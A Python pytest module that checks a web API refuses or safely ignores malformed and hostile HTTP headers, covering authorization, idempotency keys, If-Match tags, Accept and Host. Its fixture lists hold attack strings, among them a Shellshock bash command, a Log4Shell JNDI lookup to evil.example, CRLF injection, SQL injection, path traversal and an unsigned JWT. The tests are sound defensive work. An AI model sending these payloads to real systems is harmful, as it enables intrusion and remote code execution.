"""What headers may say, and what is made of nonsense in them (contract 1)."""

from functools import partial
from itertools import product

import pytest

from accounts.models import User
from subjects.models import Subject
from tests.conftest import Caller
from tests.factories import PASSWORD, make_subject
from tests.input.conftest import assert_refused
from tests.sessions.bodies import hour

JSON = "application/json"
JWT = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9."
AUTHORIZATIONS = {
    "a scheme alone": "Bearer",
    "a scheme and a space": "Bearer ",
    "a token alone": "{access}",
    "two tokens": "Bearer {access} {access}",
    "a list": "Bearer {access}, Bearer {access}",
    "a comma": "Bearer {access},",
    "quotes": 'Bearer "{access}"',
    "a colon": "Bearer: {access}",
    "a parameter": "Bearer token={access}",
    "another scheme": "Token {access}",
    "JWT": "JWT {access}",
    "Basic": "Basic YWxpY2U6Y29ycmVjdCBob3JzZSAx",
    "Basic without anything": "Basic",
    "Digest": 'Digest username="alice"',
    "Negotiate": "Negotiate",
    "a name and a password": f"alice:{PASSWORD}",
    "the refresh token": "Bearer {refresh}",
    "half a token": "Bearer {access:.60}",
    "a letter more": "Bearer {access}A",
    "a dot more": "Bearer {access}.",
    "padding": "Bearer {access}=",
    "in upper case": "BEARER EYJHBGCIOIJIUZI1NIISINR5CCI6IKPXVCJ9.E30.A",
    "unsigned": "Bearer eyJhbGciOiJub25lIn0.eyJ1c2VyX2lkIjoxfQ.",
    "a header alone": f"Bearer {JWT}",
    "dots": "Bearer ....",
    "null": "Bearer null",
    "undefined": "Bearer undefined",
    "Cyrillic": "Bearer \xd0\xb0\xd0\xb1",
    "a Latin letter": "Bearer \xe4",
    "a NUL": "Bearer {access}\0",
    "a tab within": "Bearer {access}\tx",
    "a newline": "Bearer {access}\nX-Admin: 1",
    "8 KiB": "Bearer " + "A" * 8192,
    "8 KiB that begin well": f"Bearer {JWT}" + "A" * 8192,
    "8 KiB of scheme": "B" * 8192,
    "an apostrophe": "Bearer ' OR 1=1 --",
}
NO_KEYS = {
    "empty": "",
    "256 letters": "k" * 256,
    "8 KiB": "k" * 8192,
    "an umlaut": "\xe4",
    "a tab": "a\tb",
    "a NUL": "a\0",
}
UNKNOWN_TAGS = ['"x"', "x", 'W/"x"', '"' + "x" * 8000 + '"', '"', ",,,", '"\xe4"', '""', '"a", "b", "c"']
NOT_TO_BE_HAD = ["text/csv", "application/xml", "image/png", "x", "/", "application/yaml"]
NOT_MINDED: list[dict[str, str]] = [
    {"X-Request-ID": "x"},
    {"X-Request-ID": "a b" * 100},
    {"X-Request-ID": "<script>alert(1)</script>"},
    {"X-Request-ID": "abcdefgh\r\nSet-Cookie: a=b"},
    {"X-Request-ID": "\u0661" * 8},
    {"Range": "bytes=0-3"},
    {"Range": "bytes=-1,5-2,abc"},
    {"Range": "pages=1-2"},
    {"If-Range": '"x"'},
    {"If-Modified-Since": "yesterday"},
    {"If-Modified-Since": "Wed, 99 Foo 2026 99:99:99 GMT"},
    {"If-Unmodified-Since": "never"},
    {"If-None-Match": '"x'},
    {"If-None-Match": "," * 5000},
    {"Expect": "100-continue"},
    {"Expect": "a miracle"},
    {"TE": "trailers, deflate;q=0.5"},
    {"Upgrade": "websocket", "Connection": "Upgrade"},
    {"Accept-Encoding": "gzip;q=2, br;q=x"},
    {"Accept-Language": "xx-" + "y" * 500},
    {"Accept-Charset": "utf-7"},
    {"Cookie": "sessionid=" + "x" * 4000},
    {"Cookie": "=;;=; \xe4=\xe4; sessionid"},
    {"Cookie": "sessionid=../../etc/passwd; csrftoken=\0"},
    {"X-Forwarded-For": "not, an, address"},
    {"X-Forwarded-For": "1" * 5000},
    {"X-Forwarded-Host": "evil.example"},
    {"X-Original-URL": "/admin/"},
    {"X-Rewrite-URL": "/auth/me"},
    {"Forwarded": "for=_secret;host=evil.example;proto=x"},
    {"Referer": "javascript:alert(1)"},
    {"Origin": "null"},
    {"User-Agent": "() { :;}; /bin/bash -c 'id'"},
    {"User-Agent": "${jndi:ldap://evil.example/a}"},
    {"Accept": "*/*;q=0.1, application/json"},
    {"Accept": "application/json;version=9999"},
]
HOSTS = [
    "evil.example",
    "testserver.evil.example",
    "testserver:99999x",
    "testserver@evil.example",
    "[::1",
    "",
    "a" * 300,
    "\xe4",
]


@pytest.fixture
def algebra(alice: User) -> Subject:
    return make_subject(alice)


def test_what_is_no_proof(as_alice: Caller, algebra: Subject, subtests: pytest.Subtests) -> None:
    as_alice.get("/subjects")  # an answer that is kept is for nobody either
    for (name, said), method in product(AUTHORIZATIONS.items(), ("GET", "POST")):
        with subtests.test(name, method=method):
            as_alice.credentials(HTTP_AUTHORIZATION=said.format(**as_alice.tokens))
            assert_refused(partial(as_alice.generic, method, "/subjects", '{"name": "Botany"}', JSON), 401)


def test_silence_is_no_proof(anonymous: Caller, alice: User, subtests: pytest.Subtests) -> None:
    for headers in ({}, {"Authorization": ""}):
        with subtests.test(headers=headers):
            asked = partial(anonymous.post, "/subjects", {"name": "Botany"}, headers=headers)
            assert_refused(asked, 401, "not_authenticated")


@pytest.mark.parametrize("path", ["/subjects", "/sessions", "/sessions/start"])
def test_what_is_no_key(as_alice: Caller, algebra: Subject, path: str, subtests: pytest.Subtests) -> None:
    times = {} if path == "/sessions/start" else hour(14, 15)
    body = {"name": "Botany", "subject_id": algebra.pk, **times}
    for name, key in NO_KEYS.items():
        with subtests.test(name):
            asked = partial(as_alice.post, path, body, HTTP_IDEMPOTENCY_KEY=key)
            assert_refused(asked, 400, [("Idempotency-Key", "invalid")])


def test_what_has_not_been_seen(as_alice: Caller, algebra: Subject, subtests: pytest.Subtests) -> None:
    for tag, method in product(UNKNOWN_TAGS, ("PUT", "PATCH", "DELETE")):
        with subtests.test(tag[:20], method=method):
            asked = partial(as_alice.generic, method, f"/subjects/{algebra.pk}", '{"name": "Botany"}', JSON)
            assert_refused(partial(asked, HTTP_IF_MATCH=tag), 412)


def test_what_is_not_to_be_had(as_alice: Caller, algebra: Subject, subtests: pytest.Subtests) -> None:
    for accept, path in product(NOT_TO_BE_HAD, ("/subjects", "/auth/me", "/stats/today", "/health/live")):
        with subtests.test(accept, path=path):
            assert_refused(partial(as_alice.get, path, HTTP_ACCEPT=accept), 406)


def test_what_could_not_be_answered_is_not_done(as_alice: Caller, algebra: Subject, subtests: pytest.Subtests) -> None:
    for accept in NOT_TO_BE_HAD:
        with subtests.test(accept):
            assert_refused(partial(as_alice.delete, f"/subjects/{algebra.pk}", HTTP_ACCEPT=accept), 406)


def test_what_is_no_host_of_ours(as_alice: Caller, algebra: Subject, subtests: pytest.Subtests) -> None:
    for host in HOSTS:
        with subtests.test(host[:20]):
            assert_refused(partial(as_alice.delete, f"/subjects/{algebra.pk}", HTTP_HOST=host), 400, "error")


def test_what_is_not_minded(as_alice: Caller, algebra: Subject, subtests: pytest.Subtests) -> None:
    for headers in NOT_MINDED:
        with subtests.test(headers=str(headers)[:60]):
            response = as_alice.get("/subjects", headers=headers)
            assert response.status_code == 200
            assert response.json()["results"][0]["id"] == algebra.pk
            assert "evil" not in f"{response.content.decode()} {dict(response.items())}"
            assert {"Set-Cookie", "Location", "Content-Range"}.isdisjoint(response.headers)
